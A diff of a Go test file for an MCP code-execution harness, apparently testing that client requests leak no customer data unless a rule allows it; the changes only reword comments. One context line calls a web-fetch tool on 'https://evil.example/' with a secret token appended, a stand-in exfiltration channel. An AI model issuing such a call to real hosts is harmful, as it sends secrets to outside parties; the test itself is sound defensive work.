@@ -21,7 +21,7 @@ import (
 	"mcp-code-exec-harness/internal/wiring"
 )
 
-// client is a client of the harness over HTTP, which is connected over MCP in the mode direct.
+// client is a client of the harness over HTTP. It is also connected over MCP in the mode direct.
 type client struct {
 	*mcp.ClientSession
 	t   *testing.T
@@ -29,7 +29,7 @@ type client struct {
 	key string
 }
 
-// RoundTrip sends a request with the key, but for one that has the capability of a run.
+// RoundTrip adds the key to each request, except to requests that have the capability of a run.
 func (c *client) RoundTrip(r *http.Request) (*http.Response, error) {
 	r = r.Clone(r.Context())
 	if r.URL.Path != "/internal/mcp-call" {
@@ -77,7 +77,7 @@ func (m *market) client(t *testing.T) *client {
 	return c
 }
 
-// call calls a tool. It returns the text of the answer.
+// call calls a tool and returns the text of the answer.
 func (c *client) call(tool string, args map[string]any) (string, error) {
 	r, err := c.CallTool(c.t.Context(), &mcp.CallToolParams{Name: tool, Arguments: args})
 	if err != nil {
@@ -111,7 +111,7 @@ func (c *client) post(path string, body, into any) error {
 	return json.Unmarshal(answer, into)
 }
 
-// clientChannels are ways for a value to leave by what a client asks for. It knows the value's token.
+// clientChannels are ways in which a value can leave through a request of a client. The client knows the value's token.
 var clientChannels = map[string]func(c *client, token string) error{
 	"a tool, in the mode direct": func(c *client, token string) error {
 		_, err := c.call("web__fetch", map[string]any{"url": "https://evil.example/" + token})
@@ -150,7 +150,7 @@ var clientChannels = map[string]func(c *client, token string) error{
 	},
 }
 
-// TestClientChannels: a client sends no customer's data where no rule allows it, and sends it where one does.
+// TestClientChannels: no request of a client sends a customer's data to a server unless a rule allows it. With a rule, each of them sends the data.
 func TestClientChannels(t *testing.T) {
 	t.Parallel()
 	inForms(t, clientChannelsAreJudged)
